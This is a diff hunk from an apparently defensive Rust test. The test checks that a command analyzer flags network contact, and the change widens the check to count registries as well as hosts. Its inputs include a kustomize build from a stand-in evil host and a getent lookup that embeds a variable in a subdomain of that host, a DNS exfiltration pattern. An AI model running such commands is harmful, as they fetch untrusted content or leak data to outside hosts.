@@ -206,7 +206,7 @@ fn questions_to_registries_and_name_servers_are_contacts() {
         ("kustomize build https://evil.example/x", "evil.example"),
     ] {
         let effects = by_hand(text);
-        let reached = effects.iter().any(|e| e.resource.kind == "host" && e.resource.name.starts_with(host) && e.tier > Tier::Host);
+        let reached = effects.iter().any(|e| ["host", "registry"].contains(&e.resource.kind.as_str()) && e.resource.name.starts_with(host) && e.tier > Tier::Host);
         assert!(reached, "{text}: {:#?}", effects.lines());
     }
     let told = by_hand("getent hosts \"$X\".evil.example");
